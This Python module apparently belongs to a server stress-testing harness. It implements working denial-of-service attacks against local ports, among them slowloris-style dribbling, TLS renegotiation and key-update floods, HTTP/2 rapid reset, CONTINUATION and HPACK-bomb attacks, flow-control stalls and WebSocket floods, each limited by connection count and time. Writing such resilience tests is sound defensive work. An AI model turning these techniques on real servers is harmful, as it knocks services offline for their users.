"""The ways to attack. Each is bounded by a number of connections and a time, and notes what it opened and sent."""

import asyncio
import contextlib
import os
import socket
import struct
import subprocess
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


class Scene:
    """What an attack has: where to go, how many connections, how long."""

    def __init__(self, ports, connections, seconds):
        self.ports, self.connections, self.seconds = ports, connections, seconds
        self.until = time.monotonic() + seconds
        self.counts = {"opened": 0, "sent": 0}
        self.sockets = []

    def goes_on(self):
        return time.monotonic() < self.until

    async def open(self, where="http", receive=None):
        """A connection; None where none is to be had."""
        connection = socket.socket()
        connection.setblocking(False)
        if receive:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
        self.sockets.append(connection)
        try:
            await asyncio.wait_for(
                asyncio.get_running_loop().sock_connect(connection, ("127.0.0.1", self.ports[where])), 5
            )
        except (OSError, asyncio.TimeoutError):
            return None
        self.counts["opened"] += 1
        return connection

    async def send(self, connection, data):
        """Whether it was taken, before the time was over."""
        try:
            left = max(0.01, self.until - time.monotonic())
            await asyncio.wait_for(asyncio.get_running_loop().sock_sendall(connection, data), left)
        except (OSError, asyncio.TimeoutError):
            return False
        self.counts["sent"] += len(data)
        return True

    async def hear(self, connection, most=1 << 16):
        """What comes; b"" at the end, and when the time is over."""
        try:
            left = max(0.01, self.until - time.monotonic())
            return await asyncio.wait_for(asyncio.get_running_loop().sock_recv(connection, most), left)
        except (OSError, asyncio.TimeoutError):
            return b""

    def drop(self, connection):
        connection.close()
        with contextlib.suppress(ValueError):
            self.sockets.remove(connection)

    async def each(self, one, count=None):
        """Does the same on many connections at once."""
        await asyncio.gather(*(one() for _ in range(count or self.connections)))

    async def again(self, one, count):
        """Does the same on so many connections at once, over and over."""

        async def over_and_over():
            while self.goes_on():
                began = self.counts["opened"]
                await one()
                # Whoever is refused at once does not turn in circles faster than others.
                await asyncio.sleep(0 if self.counts["opened"] > began else 0.05)

        await self.each(over_and_over, count)

    async def rest(self):
        await asyncio.sleep(max(0, self.until - time.monotonic()))

    def close(self):
        for connection in self.sockets:
            connection.close()


def dribble(where, begin, drop, pause=0.1):
    """Begins something, and goes on with it a byte at a time."""

    async def way(scene):
        async def one():
            connection = await scene.open(where)
            if connection and await scene.send(connection, begin):
                at = 0
                while scene.goes_on() and await scene.send(connection, drop[at % len(drop) :][:1]):
                    at += 1
                    await asyncio.sleep(pause)

        await scene.each(one)
        await scene.rest()

    return way


def silence(where, begin=b"", receive=None):
    """Begins something, and says no more."""

    async def way(scene):
        async def one():
            connection = await scene.open(where, receive)
            if connection and begin:
                await scene.send(connection, begin)

        await scene.each(one)
        await scene.rest()

    return way


def flood(where, begin, more, count=20):
    """Sends the same as fast as it is taken, whatever comes back; anew where it is cut off."""

    async def way(scene):
        async def one():
            connection = await scene.open(where)
            if not connection:
                return
            listening = asyncio.create_task(swallow(scene, connection))
            if await scene.send(connection, begin):
                while scene.goes_on() and await scene.send(connection, more):
                    await asyncio.sleep(0)
            listening.cancel()
            scene.drop(connection)

        await scene.again(one, count)

    return way


async def swallow(scene, connection):
    while await scene.hear(connection):
        pass


async def connection_flood(scene):
    async def one():
        connection = await scene.open()
        if connection:
            await scene.send(connection, b"GET / HTTP/1.1\r\nHost: a.test\r\n\r\n")
            await scene.hear(connection)
            scene.drop(connection)

    await scene.again(one, 100)


def made_up_sessions():
    def request():
        sid = os.urandom(15).hex()
        return f"GET /socket.io/?EIO=4&transport=polling&sid={sid} HTTP/1.1\r\nHost: a.test\r\n\r\n".encode()

    async def way(scene):
        async def one():
            connection = await scene.open()
            while connection and scene.goes_on():
                if not await scene.send(connection, request()) or not await scene.hear(connection):
                    break
            if connection:
                scene.drop(connection)

        await scene.again(one, 50)

    return way


# TLS


def record(payload, kind=22):
    return struct.pack(">BHH", kind, 0x0301, len(payload)) + payload


def client_hello():
    """A hello that any server takes, of 16 KiB by its padding."""
    groups = struct.pack(">HHHHH", 10, 6, 4, 29, 23)
    formats = struct.pack(">HHBB", 11, 2, 1, 0)
    signatures = struct.pack(">HHHHHH", 13, 8, 6, 0x0403, 0x0804, 0x0401)
    versions = struct.pack(">HHBH", 43, 3, 2, 0x0303)
    padding = struct.pack(">HH", 21, 15000) + bytes(15000)
    extensions = groups + formats + signatures + versions + padding
    body = struct.pack(">H", 0x0303) + os.urandom(32) + b"\0" + struct.pack(">HHHH", 6, 0xC02B, 0xC02F, 0xC030)
    body += b"\x01\0" + struct.pack(">H", len(extensions)) + extensions
    return b"\x01" + struct.pack(">I", len(body))[1:] + body


def hello_in_pieces():
    hello = client_hello()
    pieces = b"".join(record(hello[at : at + 1]) for at in range(len(hello) - 1))

    async def way(scene):
        async def one():
            connection = await scene.open("tls")
            at = 0
            while connection and scene.goes_on() and at < len(pieces):
                if not await scene.send(connection, pieces[at : at + 300]):
                    break
                at += 300
                await asyncio.sleep(0.05)

        await scene.each(one)
        await scene.rest()

    return way


def openssl(version, command):
    """Asks for new keys, again and again, on a few connections."""

    async def way(scene):
        async def one():
            process = subprocess.Popen(
                ["openssl", "s_client", "-connect", f"127.0.0.1:{scene.ports['tls']}", version],
                stdin=subprocess.PIPE,
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
            )
            os.set_blocking(process.stdin.fileno(), False)
            scene.counts["opened"] += 1
            while scene.goes_on() and process.poll() is None:
                try:
                    scene.counts["sent"] += os.write(process.stdin.fileno(), command)
                except BlockingIOError:
                    pass
                except OSError:
                    break
                await asyncio.sleep(0.001)
            process.kill()
            process.wait()

        await scene.again(one, 8)

    return way


# HTTP/2


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A field by itself, without an entry in any table."""
    return b"\0" + length(len(name), 7) + name + length(len(value), 7) + value


def length(number, bits, first=0):
    most = (1 << bits) - 1
    if number < most:
        return bytes([first | number])
    out, number = bytes([first | most]), number - most
    while number >= 128:
        out, number = out + bytes([number % 128 + 128]), number // 128
    return out + bytes([number])


def head(path=b"/"):
    # GET, http, and authority, by the static table.
    return b"\x82\x86" + b"\x04" + length(len(path), 7) + path + b"\x01\x06a.test"


def opening(*settings):
    return PREFACE + frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *one) for one in settings))


def streams(*frames_of, settings=(), most=100, count=20, pause=0):
    """Opens streams, each with these frames, as fast as they are taken."""

    async def way(scene):
        async def one():
            connection = await scene.open("h2c")
            if not connection:
                return
            listening = asyncio.create_task(swallow(scene, connection))
            stream = 1
            if await scene.send(connection, opening(*settings)):
                while scene.goes_on() and stream < 1 << 30:
                    burst = b""
                    for _ in range(most):
                        burst += b"".join(make(stream) for make in frames_of)
                        stream += 2
                    if not await scene.send(connection, burst):
                        break
                    await asyncio.sleep(pause)
            listening.cancel()
            scene.drop(connection)

        await scene.again(one, count)

    return way


def bomb():
    """A head that puts one long field into the table and then names it, a byte at a time."""
    value = b"x" * 4000
    put = b"\x40\x01x" + length(len(value), 7) + value
    named = b"\xbe" * 12000

    async def way(scene):
        async def one():
            connection = await scene.open("h2c")
            if not connection:
                return
            stream = 1
            if await scene.send(connection, opening()):
                while scene.goes_on():
                    block = head() + put + named
                    if not await scene.send(connection, frame(HEADERS, END_STREAM | END_HEADERS, stream, block)):
                        break
                    stream += 2
                    await asyncio.sleep(0.01)
            scene.drop(connection)

        await scene.again(one, 20)

    return way


def stall(settings, trickle):
    """Asks for much on many streams and takes nothing of it, or nearly nothing."""

    async def way(scene):
        async def one():
            connection = await scene.open("h2c")
            if not connection:
                return
            listening = asyncio.create_task(swallow(scene, connection))
            asks = b"".join(
                frame(HEADERS, END_STREAM | END_HEADERS, stream, head(b"/large")) for stream in range(1, 200, 2)
            )
            if await scene.send(connection, opening(*settings) + asks):
                while trickle and scene.goes_on():
                    one_more = struct.pack(">I", 1)
                    more = b"".join(frame(WINDOW_UPDATE, 0, stream, one_more) for stream in range(1, 200, 2))
                    if not await scene.send(connection, more + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 100))):
                        break
                    await asyncio.sleep(0.1)
            await scene.rest()
            listening.cancel()

        await scene.each(one, min(50, scene.connections))

    return way


# WebSocket

UPGRADE = (
    b"GET /ws HTTP/1.1\r\nHost: a.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)


def ws(first, payload=b""):
    return bytes([first, 0x80 | len(payload)]) + b"\0\0\0\0" + payload


def socket_flood(begin, more):
    async def way(scene):
        async def one():
            connection = await scene.open()
            if not connection:
                return
            listening = None
            if await scene.send(connection, UPGRADE) and await scene.hear(connection):
                listening = asyncio.create_task(swallow(scene, connection))
                if await scene.send(connection, begin):
                    while scene.goes_on() and await scene.send(connection, more):
                        await asyncio.sleep(0)
            if listening:
                listening.cancel()
            scene.drop(connection)

        await scene.again(one, 20)

    return way


GET = b"GET / HTTP/1.1\r\nHost: a.test\r\n"
FIELD = b"X-" + b"a" * 60 + b": " + b"b" * 190 + b"\r\n"


def ask(stream):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, head())


WAYS = {
    "slow_head": dribble("http", b"GET / HTTP/1.1\r\nX: ", b"a"),
    "slow_body": dribble("http", b"POST / HTTP/1.1\r\nHost: a.test\r\nContent-Length: 1000000\r\n\r\n", b"a"),
    "slow_reader": silence("http", b"GET /large HTTP/1.1\r\nHost: a.test\r\n\r\n", receive=4096),
    "header_flood": flood("http", GET, FIELD * 64),
    "many_small_headers": flood("http", b"", GET + b"a:b\r\n" * 1500 + b"\r\n"),
    "huge_uri": flood("http", b"GET /", b"a" * 16384),
    "connection_flood": connection_flood,
    "idle_connections": silence("http"),
    "half_open_tls": silence("tls", record(client_hello())[:200]),
    "hello_in_pieces": hello_in_pieces(),
    "renegotiation_flood": openssl("-tls1_2", b"R\n"),
    "key_update_flood": openssl("-tls1_3", b"K\n"),
    "rapid_reset": streams(ask, lambda stream: frame(RST_STREAM, 0, stream, struct.pack(">I", 8))),
    "stream_flood": streams(ask),
    "continuation_flood": flood(
        "h2c", opening() + frame(HEADERS, 0, 1, head()), frame(CONTINUATION, 0, 1, literal(b"x-a", b"b" * 16000))
    ),
    "settings_flood": flood("h2c", opening(), frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 500),
    "ping_flood": flood("h2c", opening(), frame(PING, 0, 0, bytes(8)) * 500),
    "empty_data_flood": flood(
        "h2c", opening() + frame(HEADERS, END_HEADERS, 1, b"\x83" + head()[1:]), frame(DATA, 0, 1) * 1000
    ),
    "header_bomb": bomb(),
    "window_of_zero": stall([(4, 0)], trickle=False),
    "slow_streams": stall([(4, 1)], trickle=True),
    "endless_fragments": socket_flood(ws(0x02, b"a"), ws(0x00, b"a" * 100) * 100),
    "ping_flood_in_socket": socket_flood(b"", ws(0x89, b"a" * 100) * 100),
    "made_up_sessions": made_up_sessions(),
    "held_polls": silence("http", b"GET /hold HTTP/1.1\r\nHost: a.test\r\n\r\n"),
    "chunk_extensions": flood(
        "http",
        b"POST / HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\n\r\n",
        (b"1;" + b"e" * 200 + b"\r\na\r\n") * 64,
    ),
    "proxy_dribble": dribble("proxy", b"PROXY TCP4 ", b"1"),
    "upgrade_then_silence": silence("http", UPGRADE),
}
